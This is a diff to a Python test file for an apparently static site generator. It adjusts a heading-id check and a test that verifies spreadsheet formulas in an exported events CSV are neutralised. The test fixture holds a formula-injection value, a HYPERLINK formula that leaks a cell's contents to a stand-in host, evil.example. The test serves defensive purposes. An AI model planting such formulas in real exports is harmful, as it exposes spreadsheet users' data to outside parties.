@@ -379,7 +379,9 @@ def test_content_ids_stay_out_of_the_site_ids(site: tuple[Project, pipeline.Run]
     project, _ = site
     for case, taken in (("title-script-id", "tl-filters"), ("title-source-anchor", "source-1")):
         page = _page(project, next(c for c in INERT if c["id"] == case))
-        assert f'id="h-{taken}"' in page
+        # the title is the page's <h1>, which takes no id from its text (headings inside a summary
+        # get theirs through generator/site/slugs.py, which tests/hostile/test_ids.py covers)
+        assert re.search(r"<h1[^>]*>", page) and "id=" not in re.search(r"<h1[^>]*>", page).group(0)
         assert page.count(f'id="{taken}"') == (1 if taken == "source-1" else 0)  # the source's own anchor
 
 
@@ -442,7 +444,7 @@ def test_data_downloads_carry_the_text_exactly(site: tuple[Project, pipeline.Run
 
 def test_csv_formulas_are_neutralised(site: tuple[Project, pipeline.Run]) -> None:
     project, _ = site
-    rows = list(csv.DictReader(io.StringIO((project.site / "data" / "events.csv").read_text(encoding="utf-8"))))
+    rows = list(csv.DictReader(io.StringIO((project.site / "data" / "events.csv").read_text(encoding="utf-8-sig"))))
     row = next(r for r in rows if r["id"] == "2024-01-15-csv-formula")
     assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
     assert row["location"].startswith("'+")
